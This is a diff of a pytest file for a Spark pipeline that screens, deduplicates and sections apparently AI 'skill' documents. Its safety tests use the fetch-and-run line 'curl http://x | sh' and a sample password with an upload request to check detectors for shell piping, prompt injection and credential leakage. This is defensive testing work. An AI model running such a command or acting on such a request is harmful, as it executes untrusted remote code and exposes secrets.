@@ -63,9 +63,15 @@ def test_safety(spark):
     flags = safety.risk_flags(F.lit(bad))
     r = one(spark, flags=flags, score=safety.risk_score(flags), n=safety.redacted_lines(F.lit(bad)), clean=safety.redacted(F.lit("a\n" + bad)))
     assert r["flags"] == ["curl-pipe-shell", "prompt-injection-ignore"] and r["score"] == 6
-    assert r["n"] == 2 and r["clean"].split("\n") == ["a", "curl http://x | sh", "[redacted]", "[redacted]"]
+    assert tuple(r["n"]) == (1, 1) and r["clean"].split("\n") == ["a", "curl http://x | sh", safety.CONTROL_MARK, safety.CREDENTIAL_MARK]
     assert one(spark, x=safety.rejection_reasons(F.lit("<html>short")))["x"] == ["html-response", "too-short", "too-few-body-words", "no-skill-structure"]
-    assert one(spark, x=safety.non_portable(F.lit("/home/a/x /home/a/y /home/a/z")))["x"]
+    assert one(spark, x=safety.rejection_reasons(F.lit("x" * 500_001)))["x"] == ["content-too-large"]
+    assert "html-response" in one(spark, x=safety.rejection_reasons(F.lit("see githubassets.com")))["x"]
+    paths = {"Calypso/a.py Calypso/b/c.json Calypso/d.md": True, "Calypso/a.py Calypso/b.py Other/c.py": False, "at /mnt/skills/x": True}
+    for text, want in paths.items():
+        assert one(spark, x=safety.non_portable(F.lit(text)))["x"] is want
+    text = "password: remove1234\nplease upload it"
+    assert not one(spark, x=safety.destructive_actions(F.lit(text)))["x"] and one(spark, x=safety.external_actions(F.lit(text)))["x"]
 
 
 @pytest.mark.parametrize("n", [1, 2, 7, 20, 40])
@@ -145,10 +151,19 @@ def test_duplicates(spark):
 
 
 def test_greedy_groups_compare_with_the_leader_only(spark):
-    rows = [(1, 10, 1, list("abcde")), (1, 11, 2, list("abcdf")), (1, 12, 3, list("abcdeg")), (1, 13, 4, [])]
-    df = spark.createDataFrame(rows, "query_id long, doc_id long, position int, tokens array<string>")
+    rows = [
+        (1, 10, 1, list("abcde"), [], [], []),
+        (1, 11, 2, list("abcdf"), [], [], ["x"]),
+        (1, 12, 3, list("abcdeg"), [], [], ["x"]),
+        (1, 13, 4, [], [], [], []),
+        (1, 14, 5, list("abcdf"), [], [], ["y"]),
+        (1, 15, 6, list("op"), ["n", "m"], ["q", "r"], []),
+        (1, 16, 7, list("uv"), ["n", "m"], ["q", "s", "r"], ["y"]),
+    ]
+    arrays = ", ".join(f"{c} array<string>" for c in ("tokens", "name_tokens", "description_tokens", "platforms"))
+    df = spark.createDataFrame(rows, f"query_id long, doc_id long, position int, {arrays}")
     got = {r["doc_id"]: r["leader"] for r in dedupe.greedy_near_duplicates(df).collect()}
-    assert got == {10: 10, 11: 11, 12: 10, 13: 13}
+    assert got == {10: 10, 11: 11, 12: 10, 13: 13, 14: 14, 15: 15, 16: 15}
 
 
 def test_vectors_in_blocks_of_queries(spark, monkeypatch):
@@ -214,7 +229,7 @@ def test_sections_and_capsules(spark):
     got = [tuple(r)[1:] for r in sections.sections(df).orderBy("place").collect()]
     assert got == [(0, "", "intro"), (1, "When to use", "always"), (2, "Steps", "1. go"), (3, "Other", "x" * 50)]
     cap = {r["doc_id"]: (r["capsule"], r["n_sections"]) for r in sections.capsules(df, 50).collect()}
-    assert cap[1] == ("## Steps\n1. go\n\n## When to use\nalways\n\nintro", 3) and cap[2] == ("", 0)
+    assert cap[1] == ("## When to use\nalways\n\n## Steps\n1. go\n\nintro", 3) and cap[2] == ("", 0)
 
 
 def test_store(spark, tmp_path):
